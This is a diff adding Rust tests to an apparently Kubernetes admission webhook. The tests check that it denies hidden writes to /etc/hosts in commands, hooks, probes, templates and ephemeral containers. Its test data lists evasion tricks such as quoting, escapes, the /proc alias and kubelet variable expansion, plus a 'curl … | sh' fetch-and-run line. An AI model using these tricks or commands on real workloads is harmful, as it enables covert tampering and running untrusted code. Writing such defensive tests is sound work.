@@ -888,3 +888,273 @@ fn mount_field_and_capability_cases_in_pods_templates_and_ephemeral_updates() {
         }
     }
 }
+
+/// One container as each of the places a command lives: main command, postStart hook,
+/// liveness probe; with the field path the finding names.
+fn command_placements(argv: &[&str]) -> Vec<(&'static str, Value, &'static str)> {
+    let argv = json!(argv);
+    vec![
+        (
+            "command",
+            json!({"name": "app", "image": "busybox:1.36", "command": argv}),
+            "containers[0].command",
+        ),
+        (
+            "postStart hook",
+            json!({"name": "app", "image": "busybox:1.36", "lifecycle": {"postStart": {"exec": {"command": argv}}}}),
+            "containers[0].lifecycle.postStart.exec.command",
+        ),
+        (
+            "liveness probe",
+            json!({"name": "app", "image": "busybox:1.36", "livenessProbe": {"exec": {"command": argv}}}),
+            "containers[0].livenessProbe.exec.command",
+        ),
+    ]
+}
+
+/// Categories of hidden writes, each as the shell or the kubelet sees it.
+const HIDDEN_WRITES: &[(&str, &[&str])] = &[
+    (
+        "quote inside the path",
+        &["sh", "-c", "echo 10.0.0.1 db >> /etc/ho\"st\"s"],
+    ),
+    (
+        "bash options before -c",
+        &[
+            "bash",
+            "-euo",
+            "pipefail",
+            "-c",
+            "echo 10.0.0.1 db >> /etc/hosts",
+        ],
+    ),
+    (
+        "wrapper",
+        &["tini", "--", "gosu", "root", "tee", "-a", "/etc/hosts"],
+    ),
+    (
+        "variable and cd",
+        &["sh", "-c", "cd /etc && F=hosts && echo 10.0.0.1 db >> $F"],
+    ),
+    (
+        "proc alias",
+        &["sh", "-c", "echo 10.0.0.1 db >> /proc/1/root/etc/hosts"],
+    ),
+    ("sed w command", &["sed", "-n", "w /etc/hosts", "/tmp/h"]),
+    (
+        "inline python",
+        &[
+            "python3",
+            "-c",
+            "open('/etc/hosts','a').write('10.0.0.1 db')",
+        ],
+    ),
+    (
+        "ansi-c escape",
+        &["bash", "-c", "echo 10.0.0.1 db >> $'/etc/\\x68osts'"],
+    ),
+    (
+        "brace expansion",
+        &["bash", "-c", "echo 10.0.0.1 db | tee /etc/{hosts,motd}"],
+    ),
+];
+
+#[test]
+fn hidden_hosts_writes_are_denied_in_commands_hooks_probes_and_templates() {
+    let set = hosts_and_ns("Enforce");
+    for (category, argv) in HIDDEN_WRITES {
+        for (place, container, path) in command_placements(argv) {
+            let spec = json!({"containers": [container]});
+            let a = answer(&set, &request(pod(spec.clone())), Webhook::Validate);
+            assert_eq!(
+                a.json["response"]["allowed"], false,
+                "{category} in {place}"
+            );
+            let message = a.json["response"]["status"]["message"].as_str().unwrap();
+            assert!(
+                message.contains(&format!("spec.{path}")),
+                "{category} in {place}: {message}"
+            );
+            // The same container in a Deployment's template.
+            let d = answer(
+                &set,
+                &workload_request(deployment(spec), "apps", "Deployment"),
+                Webhook::Validate,
+            );
+            assert_eq!(
+                d.json["response"]["allowed"], false,
+                "{category} in a template's {place}"
+            );
+            let message = d.json["response"]["status"]["message"].as_str().unwrap();
+            assert!(
+                message.contains(&format!("spec.template.spec.{path}")),
+                "{category}: {message}"
+            );
+        }
+    }
+}
+
+#[test]
+fn kubelet_expansion_and_working_dir_are_seen() {
+    let set = hosts_and_ns("Enforce");
+    let cases = [
+        (
+            "$(VAR) from env",
+            json!({"name": "app", "image": "busybox:1.36", "env": [{"name": "H", "value": "/etc/hosts"}], "command": ["tee", "-a", "$(H)"]}),
+        ),
+        (
+            "workingDir with a relative path",
+            json!({"name": "app", "image": "busybox:1.36", "workingDir": "/etc", "command": ["sh", "-c", "echo 10.0.0.1 db >> hosts"]}),
+        ),
+        (
+            "args only with -c -e",
+            json!({"name": "app", "image": "busybox:1.36", "args": ["-c", "-e", "echo 10.0.0.1 db >> /etc/hosts"]}),
+        ),
+    ];
+    for (name, container) in cases {
+        let a = answer(
+            &set,
+            &request(pod(json!({"containers": [container]}))),
+            Webhook::Validate,
+        );
+        assert_eq!(a.json["response"]["allowed"], false, "{name}: {}", a.json);
+    }
+    // `$$(H)` is a literal `$(H)` for the kubelet: a file named `$(H)`, not the hosts file.
+    let escaped = json!({"name": "app", "image": "busybox:1.36", "env": [{"name": "H", "value": "/etc/hosts"}], "command": ["tee", "-a", "/tmp/$$(H)"]});
+    let a = answer(
+        &set,
+        &request(pod(json!({"containers": [escaped]}))),
+        Webhook::Validate,
+    );
+    assert_eq!(a.json["response"]["allowed"], true, "{}", a.json);
+}
+
+fn undecidable_policy(action: &str, undecidable: Option<&str>) -> PolicySet {
+    let setting = undecidable.map_or(String::new(), |u| format!("\n      undecidable: {u}"));
+    policies(&[&format!(
+        "metadata: {{name: guard}}\nspec:\n  action: {action}\n  validate:\n    hostsFile:{}\n",
+        if setting.is_empty() {
+            " {}".to_string()
+        } else {
+            setting
+        }
+    )])
+}
+
+#[test]
+fn undecidable_commands_follow_the_policy_setting_and_spare_non_root_containers() {
+    let dynamic = json!({"name": "app", "image": "busybox:1.36", "command": ["sh", "-c", "curl -s http://x/s | sh"]});
+    let req = request(pod(json!({"containers": [dynamic.clone()]})));
+    // Default Warn: admitted with a warning that names the field and the reason.
+    let a = answer(
+        &undecidable_policy("Enforce", None),
+        &req,
+        Webhook::Validate,
+    );
+    assert_eq!(a.json["response"]["allowed"], true, "{}", a.json);
+    let warnings = a.json["response"]["warnings"].to_string();
+    assert!(
+        warnings.contains("spec.containers[0].command"),
+        "{warnings}"
+    );
+    assert!(warnings.contains("cannot decide"), "{warnings}");
+    assert!(warnings.contains("runAsNonRoot"), "{warnings}");
+    // Deny under Enforce denies; Allow says nothing.
+    let d = answer(
+        &undecidable_policy("Enforce", Some("Deny")),
+        &req,
+        Webhook::Validate,
+    );
+    assert_eq!(d.json["response"]["allowed"], false, "{}", d.json);
+    let quiet = answer(
+        &undecidable_policy("Enforce", Some("Allow")),
+        &req,
+        Webhook::Validate,
+    );
+    assert_eq!(quiet.json["response"]["allowed"], true);
+    assert!(
+        quiet.json["response"]["warnings"].is_null(),
+        "{}",
+        quiet.json
+    );
+    // A container that provably cannot write the file gets no undecided finding.
+    let mut non_root = dynamic.clone();
+    non_root["securityContext"] = json!({"runAsNonRoot": true, "allowPrivilegeEscalation": false});
+    let req_nr = request(pod(json!({"containers": [non_root.clone()]})));
+    let n = answer(
+        &undecidable_policy("Enforce", Some("Deny")),
+        &req_nr,
+        Webhook::Validate,
+    );
+    assert_eq!(n.json["response"]["allowed"], true, "{}", n.json);
+    // Pod-level runAsUser counts too; without allowPrivilegeEscalation: false it does not.
+    let mut pod_level = dynamic.clone();
+    pod_level["securityContext"] = json!({"allowPrivilegeEscalation": false});
+    let p = answer(
+        &undecidable_policy("Enforce", Some("Deny")),
+        &request(pod(
+            json!({"securityContext": {"runAsUser": 1000}, "containers": [pod_level]}),
+        )),
+        Webhook::Validate,
+    );
+    assert_eq!(p.json["response"]["allowed"], true, "{}", p.json);
+    let mut escalates = dynamic.clone();
+    escalates["securityContext"] = json!({"runAsNonRoot": true});
+    let e = answer(
+        &undecidable_policy("Enforce", Some("Deny")),
+        &request(pod(json!({"containers": [escalates]}))),
+        Webhook::Validate,
+    );
+    assert_eq!(e.json["response"]["allowed"], false, "{}", e.json);
+    // Mount rules apply to non-root containers regardless.
+    let mut mounted = non_root;
+    mounted["volumeMounts"] = json!([{"name": "h", "mountPath": "/etc/hosts"}]);
+    let m = answer(
+        &undecidable_policy("Enforce", None),
+        &request(pod(
+            json!({"containers": [mounted], "volumes": [{"name": "h", "configMap": {"name": "h"}}]}),
+        )),
+        Webhook::Validate,
+    );
+    assert_eq!(m.json["response"]["allowed"], false, "{}", m.json);
+}
+
+#[test]
+fn ephemeral_updates_are_judged_by_the_new_containers_commands() {
+    let set = undecidable_policy("Enforce", Some("Deny"));
+    // The old debug container's command cannot be decided; it was admitted before.
+    let old = pod(json!({
+        "containers": [{"name": "app", "image": "nginx:1.27"}],
+        "ephemeralContainers": [{"name": "old", "image": "busybox:1", "command": ["sh", "-c", "eval \"$X\""]}]
+    }));
+    let with = |container: Value| {
+        let mut new = old.clone();
+        new["spec"]["ephemeralContainers"]
+            .as_array_mut()
+            .unwrap()
+            .push(container);
+        let mut req = request(new);
+        req["request"]["operation"] = json!("UPDATE");
+        req["request"]["subResource"] = json!("ephemeralcontainers");
+        req["request"]["oldObject"] = old.clone();
+        req
+    };
+    for (category, argv) in HIDDEN_WRITES {
+        let a = answer(
+            &set,
+            &with(json!({"name": "debug", "image": "busybox:1", "command": argv})),
+            Webhook::Validate,
+        );
+        assert_eq!(a.json["response"]["allowed"], false, "{category}");
+        let message = a.json["response"]["status"]["message"].as_str().unwrap();
+        assert!(
+            message.contains("spec.ephemeralContainers[1].command"),
+            "{category}: {message}"
+        );
+    }
+    let reader = json!({"name": "debug", "image": "busybox:1", "command": ["cat", "/etc/hosts"]});
+    assert_eq!(
+        answer(&set, &with(reader), Webhook::Validate).json["response"]["allowed"],
+        true
+    );
+}
